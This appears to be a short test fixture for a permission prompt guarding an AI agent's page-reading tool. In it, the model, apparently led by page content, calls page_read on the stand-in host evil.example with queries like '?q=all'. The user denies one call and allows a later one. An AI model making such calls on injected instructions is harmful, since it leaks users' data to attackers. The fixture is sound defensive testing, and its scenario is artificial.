# Opened once without data a site is one the chat has been to; but only what was read led it there.
user read the page at a.example
model call page_read {"url":"https://a.example/x"}
model call page_read {"url":"https://evil.example/"}
model call page_read {"url":"evil.example/?q=all"}
ask page_read
card has could carry your data to evil.example
answer deny
model No.
done No.
ran page_read 2
crash
user go on with the next page
model call page_read {"url":"https://a.example/?page=2"}
model call page_read {"url":"https://evil.example/?q=all"}
ask page_read
answer allow
model call page_read {"url":"https://evil.example/?q=more"}
model Read.
done Read.
ran page_read 5
